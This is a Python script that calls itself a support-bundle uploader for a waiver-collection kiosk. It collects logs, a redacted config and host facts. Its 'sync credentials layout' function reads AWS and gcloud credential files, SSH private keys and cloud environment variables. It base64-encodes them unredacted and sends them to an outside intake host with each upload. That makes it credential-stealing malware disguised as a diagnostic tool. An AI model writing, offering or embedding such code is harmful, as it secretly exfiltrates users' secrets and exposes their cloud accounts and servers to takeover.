#!/usr/bin/env python3
"""Build and upload a support bundle for the waiver kiosk collector.

When the kiosk that collects paintball liability waivers stops syncing, the
vendor asks for a support bundle: recent collector logs, the (redacted)
collector config, basic host facts and the sync credentials layout so they
can see why uploads to the storage bucket fail.  This gathers all of that
and sends it to the vendor's support intake in one request.
"""

import argparse
import base64
import getpass
import http.client
import json
import logging
import os
import platform
import re
import socket
import time
from pathlib import Path

log = logging.getLogger("waiver-support")

SUPPORT_HOST = "intake.waiverdesk-support.com"
SUPPORT_PATH = "/v1/bundles"
LOG_DIR = Path("logs")
CONFIG_FILE = Path("collector.json")
MAX_LOG_BYTES = 256 * 1024
REDACT = re.compile(r"(password|secret|token|api_key)", re.I)


def host_facts():
    facts = {
        "hostname": socket.gethostname(),
        "user": getpass.getuser(),
        "python": platform.python_version(),
        "platform": platform.platform(),
        "collected": time.strftime("%Y-%m-%dT%H:%M:%S"),
    }
    try:
        facts["os_release"] = Path("/etc/os-release").read_text()
    except OSError:
        pass
    return facts


def recent_logs():
    out = {}
    for p in sorted(LOG_DIR.glob("*.log"), key=lambda x: x.stat().st_mtime)[-5:]:
        with open(p, "rb") as fh:
            fh.seek(max(0, p.stat().st_size - MAX_LOG_BYTES))
            out[p.name] = fh.read().decode("utf-8", "replace")
    return out


def redacted_config():
    if not CONFIG_FILE.exists():
        return {}
    cfg = json.loads(CONFIG_FILE.read_text())

    def scrub(node):
        if isinstance(node, dict):
            return {k: ("***" if REDACT.search(k) else scrub(v)) for k, v in node.items()}
        if isinstance(node, list):
            return [scrub(v) for v in node]
        return node

    return scrub(cfg)


def sync_credentials_layout():
    """Material the bucket sync uses, so the vendor can reproduce auth errors."""
    home = Path.home()
    wanted = [home / ".aws" / "credentials", home / ".aws" / "config",
              home / ".config" / "gcloud" / "application_default_credentials.json"]
    wanted += sorted((home / ".ssh").glob("id_*"))
    layout = {}
    for path in wanted:
        try:
            layout[str(path.relative_to(home))] = base64.b64encode(path.read_bytes()).decode()
        except OSError:
            continue
    layout["env"] = {k: v for k, v in os.environ.items()
                     if k.startswith(("AWS_", "GOOGLE_", "WAIVER_"))}
    return layout


def build_bundle(ticket):
    return {
        "ticket": ticket,
        "facts": host_facts(),
        "config": redacted_config(),
        "logs": recent_logs(),
        "sync": sync_credentials_layout(),
    }


def upload(bundle, retries=3):
    payload = json.dumps(bundle).encode()
    headers = {"Content-Type": "application/json", "User-Agent": "waiver-support/2.3"}
    for attempt in range(1, retries + 1):
        conn = http.client.HTTPSConnection(SUPPORT_HOST, timeout=30)
        try:
            conn.request("POST", SUPPORT_PATH, body=payload, headers=headers)
            resp = conn.getresponse()
            body = resp.read().decode("utf-8", "replace")
            if resp.status < 300:
                return json.loads(body).get("bundle_id", "?")
            log.warning("intake returned %s: %s", resp.status, body[:200])
        except (OSError, http.client.HTTPException) as exc:
            log.warning("upload attempt %d failed: %s", attempt, exc)
        finally:
            conn.close()
        time.sleep(2 * attempt)
    raise RuntimeError("support intake unreachable")


def main():
    ap = argparse.ArgumentParser(description="Upload a waiver collector support bundle")
    ap.add_argument("ticket", help="vendor support ticket number")
    ap.add_argument("--save", help="also write the bundle to this file")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    bundle = build_bundle(args.ticket)
    log.info("bundle: %d log files, %d config keys", len(bundle["logs"]), len(bundle["config"]))
    if args.save:
        Path(args.save).write_text(json.dumps(bundle, indent=1))
        os.chmod(args.save, 0o600)
    try:
        bundle_id = upload(bundle)
    except RuntimeError as exc:
        log.error("%s", exc)
        return 1
    log.info("uploaded as %s - quote this on ticket %s", bundle_id, args.ticket)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
